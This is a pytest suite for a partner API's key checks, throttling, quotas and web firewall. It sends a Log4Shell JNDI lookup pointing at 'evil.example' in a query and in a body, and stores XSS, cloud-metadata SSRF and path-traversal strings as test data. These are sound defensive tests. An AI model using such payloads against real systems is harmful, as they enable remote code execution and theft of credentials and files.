"""Who may call the partner API, how fast, how often, and what the firewall makes of it."""

import json
import time
from collections import Counter
from concurrent.futures import ThreadPoolExecutor

import pytest

from tests.deployment import Deployment
from tests.partner import PartnerApi, eventually

METHODS = [
    ("GET", "/"),
    ("GET", "/health"),
    ("GET", "/items"),
    ("POST", "/items"),
    ("GET", "/items/mug"),
    ("PUT", "/items/mug"),
    ("DELETE", "/items/mug"),
]


@pytest.mark.parametrize(("method", "path"), METHODS)
@pytest.mark.parametrize("key", [None, "wrong", "{}x"])
def test_without_the_key_nothing_is_answered(
    partner: PartnerApi, method: str, path: str, key: str | None
) -> None:
    given = key and key.format(partner.key)

    answer = partner.call(method, path, item={} if method in ("POST", "PUT") else None, key=given)

    assert answer.status == 403
    assert answer.error == {"code": "forbidden", "message": "send a valid key as x-api-key"}
    assert answer.body["request_id"] == answer.headers["x-request-id"]


@pytest.mark.parametrize(
    ("method", "path"),
    [("PATCH", "/items/mug"), ("PUT", "/"), ("GET", "/item"), ("GET", "/items/mug/parts")],
)
def test_there_is_nothing_besides_the_methods_described(
    partner: PartnerApi, method: str, path: str
) -> None:
    answer = partner.call(method, path)

    assert (answer.status, answer.error["code"]) == (404, "not_found")


def test_above_the_burst_of_its_plan_a_key_is_throttled_and_then_served_again(
    partner: PartnerApi,
) -> None:
    with partner.another_key(throttle={"rateLimit": 1, "burstLimit": 5}) as key:
        served = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
        with ThreadPoolExecutor(16) as clients:
            answers = list(clients.map(lambda _: partner.call("GET", "/", key=key), range(40)))
        recovered = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 429)

    refused = [answer for answer in answers if answer.status == 429]
    assert served.status == recovered.status == 200
    assert Counter(answer.status for answer in answers).keys() == {200, 429}
    assert len(refused) >= 25
    assert refused[0].error["code"] == "too_many_requests"
    assert refused[0].headers["retry-after"] == "1"


def test_a_throttled_key_takes_nothing_from_another(partner: PartnerApi) -> None:
    with partner.another_key(throttle={"rateLimit": 1, "burstLimit": 1}) as key:
        eventually(lambda: partner.call("GET", "/", key=key).status, lambda status: status == 429)

        assert partner.call("GET", "/").status == 200


def test_when_the_quota_of_its_plan_is_used_up_a_key_is_refused(partner: PartnerApi) -> None:
    with partner.another_key(quota={"limit": 3, "period": "DAY"}) as key:
        first = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status != 403)
        last = eventually(lambda: partner.call("GET", "/", key=key), lambda a: a.status == 429)

    assert first.status == 200
    assert last.error == {"code": "quota_exceeded", "message": "the quota of the day is used up"}


def test_an_address_above_the_firewalls_rate_is_blocked_and_then_served_again(
    partner: PartnerApi,
) -> None:
    with partner.rate_rule(limit=10, seconds=60):
        blocked = eventually(lambda: partner.call("GET", "/"), lambda a: a.status != 200)
    served = eventually(lambda: partner.call("GET", "/"), lambda a: a.status == 200)

    assert (blocked.status, blocked.error["code"]) == (403, "request_blocked")
    assert served.status == 200


@pytest.mark.embedded
def test_what_the_firewall_blocked_is_shown(partner: PartnerApi, deployment: Deployment) -> None:
    before = time.time()
    partner.call("GET", "/items?cursor=%24%7Bjndi:ldap://evil.example/a%7D")

    def samples() -> list[object]:
        shown = json.loads(deployment.tap("status", "--json").stdout)["web_acls"]
        [firewall] = [each for each in shown if each["web_acl"] in partner.outputs["WAFWebAclArn"]]
        return [
            (sample["action"], sample["rule"].rpartition(":")[2])
            for sample in firewall["samples"]
            if sample["time"] > before and sample["action"] == "BLOCK"
        ]

    assert eventually(samples, bool) == [("BLOCK", "Log4JRCE_QUERYARGUMENTS")]


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "http://169.254.169.254/latest",
        "../../etc/passwd",
        "x" * 20_000,
    ],
)
def test_items_are_data_whatever_they_look_like(partner: PartnerApi, text: str) -> None:
    created = partner.call("POST", "/items", item={"text": text}).data["item"]

    assert created["text"] == text
    assert partner.call("DELETE", f"/items/{created['id']}").status == 200


def test_known_bad_input_is_blocked_in_a_body_too(partner: PartnerApi) -> None:
    answer = partner.call("POST", "/items", item={"text": "${jndi:ldap://evil.example/a}"})

    assert (answer.status, answer.error["code"]) == (403, "request_blocked")
